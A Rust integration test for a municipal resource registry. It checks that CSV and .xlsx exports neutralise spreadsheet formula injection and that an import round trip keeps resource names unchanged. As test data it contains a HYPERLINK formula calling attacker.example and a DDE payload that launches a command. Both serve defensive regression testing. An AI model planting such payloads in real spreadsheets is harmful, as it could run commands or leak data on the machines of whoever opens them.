//! Formula injection through exports (issue 17): a resource named like a spreadsheet formula
//! leaves the registry as text (a leading apostrophe, in CSV and .xlsx alike) and comes back
//! through an import as the name it had.

use tsunagu_proto::registry::v1 as pb;
use tsunagu_tests::{Fixture, MUNICIPALITY, TestSystem};

const FORMULA: &str = r#"=HYPERLINK("http://attacker.example/?q=1","詳細")"#;
const SIGNED: &str = "-2+3+cmd|' /C calc'!A0";

fn sheet() -> String {
    // CSV quoting: quotes inside a field are doubled.
    let quoted = |text: &str| format!("\"{}\"", text.replace('"', "\"\""));
    format!(
        "外部ID,資源名,事業主体名,カテゴリ,対象区域,定員,空き,状態,住所\n\
         f-1,{},NPO法人 ささえあい,ゴミ出し,212024,3,3,実施中,{}\n",
        quoted(FORMULA),
        quoted(SIGNED),
    )
}

async fn import(system: &TestSystem, content: Vec<u8>) -> pb::ImportResourcesResponse {
    system
        .registry()
        .import_resources(pb::ImportResourcesRequest {
            municipality_code: MUNICIPALITY.into(),
            content,
            imported_by: "テスト".into(),
            ..Default::default()
        })
        .await
        .expect("import")
        .into_inner()
}

async fn named_like_a_formula(system: &TestSystem) -> pb::Resource {
    system
        .registry()
        .list_resources(pb::ListResourcesRequest {
            municipality_code: MUNICIPALITY.into(),
            view: pb::ResourceView::Full.into(),
            ..Default::default()
        })
        .await
        .unwrap()
        .into_inner()
        .resources
        .into_iter()
        .find(|resource| resource.name == FORMULA)
        .expect("the resource keeps the name it was given")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_resource_named_like_a_formula_is_exported_as_text_and_imported_back_unchanged() {
    let system = TestSystem::start().await;
    let _fixture = Fixture::create(&system, 1).await;
    let report = import(&system, sheet().into_bytes()).await;
    assert!(report.rejected.is_empty(), "{:#?}", report.rejected);
    let before = named_like_a_formula(&system).await;

    for format in [pb::SheetFormat::Csv, pb::SheetFormat::Xlsx] {
        let export = system
            .registry()
            .export_resources(pb::ExportResourcesRequest {
                municipality_code: MUNICIPALITY.into(),
                format: format.into(),
                include_confidential: true,
            })
            .await
            .unwrap()
            .into_inner();
        if format == pb::SheetFormat::Csv {
            let csv = String::from_utf8(export.content.clone()).unwrap();
            assert!(
                csv.contains(r#""'=HYPERLINK(""http://attacker.example/?q=1"",""詳細"")""#),
                "{csv}"
            );
            assert!(csv.contains("'-2+3+cmd|"), "{csv}");
            // No field of the file starts a formula.
            for line in csv.lines() {
                for field in line.split(',') {
                    let field = field.trim_start_matches('"');
                    assert!(
                        !field.starts_with(['=', '+', '@']) && !field.starts_with("-2+"),
                        "an unguarded cell: {field:?} in {line:?}"
                    );
                }
            }
        } else {
            // What a spreadsheet shows: tabular reads the raw cell, apostrophe included, only
            // through its guard; the workbook's shared strings hold the guarded text.
            let sheet = tsunagu_tabular::read(&export.content, tsunagu_tabular::Format::Xlsx).unwrap();
            let name = sheet.column(&["資源名"]).unwrap();
            assert!(sheet.rows.iter().any(|row| row.cell(name) == FORMULA));
        }
        let report = import(&system, export.content).await;
        assert!(report.rejected.is_empty(), "{format:?}: {:#?}", report.rejected);
        assert_eq!(
            (report.created, report.updated),
            (0, 0),
            "{format:?}: the round trip changed something"
        );
        assert_eq!(named_like_a_formula(&system).await, before, "{format:?}");
    }
    system.shutdown().await;
}
